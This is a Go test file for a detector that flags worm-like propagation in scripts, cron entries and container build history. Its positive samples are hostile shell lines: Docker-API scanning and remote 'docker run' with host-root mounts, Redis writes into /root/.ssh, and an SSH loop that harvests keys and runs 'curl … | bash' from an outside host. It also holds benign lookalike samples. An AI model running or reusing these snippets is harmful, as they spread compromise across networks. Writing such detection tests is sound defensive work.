package propagation

import (
	"testing"

	"github.com/safepull/safepull/trust"
	"github.com/safepull/safepull/trust/indicator/indicatortest"
)

func TestShapes(t *testing.T) {
	t.Parallel()
	ind, err := New(rules(t))
	if err != nil {
		t.Fatal(err)
	}
	script, text, config := trust.KindScript, trust.KindText, trust.KindConfig
	indicatortest.Shapes(t, ind, []indicatortest.Sample{
		{Name: "exported-host", Path: "w.sh", Kind: script, Content: "pnscan $N 2375 > l\nwhile read ip; do DOCKER_HOST=tcp://$ip:2375 docker run -d x; done < l\n", Want: trust.Strong},
		{Name: "older-port", Path: "w.sh", Kind: script, Content: "masscan 0.0.0.0/0 -p4243 --rate 5000\ndocker --host tcp://${T}:4243 run -v /:/mnt alpine chroot /mnt\n", Want: trust.Strong},
		{Name: "redis-cron", Path: "w.sh", Kind: script, Content: "pnscan $N 6379\nredis-cli -h $h config set dir /root/.ssh\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "keys-and-hosts", Path: "w.sh", Kind: script, Content: "K=$(find / -name id_rsa)\nH=$(cat /root/.ssh/known_hosts | cut -d ' ' -f1)\nfor h in $H; do ssh -o StrictHostKeyChecking=no root@$h 'curl http://203.0.113.7/x | bash'; done\n", Want: trust.Strong},
		{Name: "windows-lines", Path: "w.sh", Kind: script, Content: "masscan $N -p2375 --rate 900\r\ndocker -H tcp://$h:2375 run x\r\n", Want: trust.Strong},
		{Name: "built-in", Path: "config:history[4]", Kind: config, Content: "RUN apt-get install -y masscan && masscan -iL x -p2375", Want: trust.Strong},
		{Name: "example", Path: "usr/share/doc/x/examples/w.sh", Kind: script, Content: "masscan $N -p2375 --rate 900\ndocker -H tcp://$h:2375 run x\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "cron", Path: "etc/cron.d/w", Kind: text, Content: "* * * * * root masscan $N -p2375 --rate 900 -oL /tmp/o; docker -H tcp://$(tail -1 /tmp/o):2375 run x\n", Want: trust.Strong},
	}, []indicatortest.Twin{
		{Name: "fixed-host", Path: "d.sh", Kind: script, Content: "docker -H tcp://build.internal:2375 run --rm app make\ndocker -H ssh://deploy@203.0.113.4 pull app\n"},
		{Name: "own-socket", Path: "d.sh", Kind: script, Content: "curl --unix-socket /var/run/docker.sock -X POST http://localhost/containers/create -d @c.json\n", Allowed: trust.Weak},
		{Name: "port-in-settings", Path: "daemon.json", Kind: text, Content: `{"hosts": ["tcp://0.0.0.0:2376"], "tlsverify": true}`},
		{Name: "inventory", Path: "i.sh", Kind: script, Content: "nmap -sn 10.0.0.0/24 -oG - | awk '/Up$/{print $2}'\n"},
		{Name: "commented", Path: "w.sh", Kind: script, Content: "# masscan $N -p2375\n# docker -H tcp://$h:2375 run x\n"},
		{Name: "known-hosts", Path: "s.sh", Kind: script, Content: "ssh-keygen -R $H -f ~/.ssh/known_hosts\nssh-keyscan $H >> ~/.ssh/known_hosts\nssh -o StrictHostKeyChecking=yes app@$H uptime\n"},
		{Name: "host-mount", Path: "b.sh", Kind: script, Content: "docker run --rm -v /:/host:ro -v /backup:/backup acme/backup\n"},
	})
}
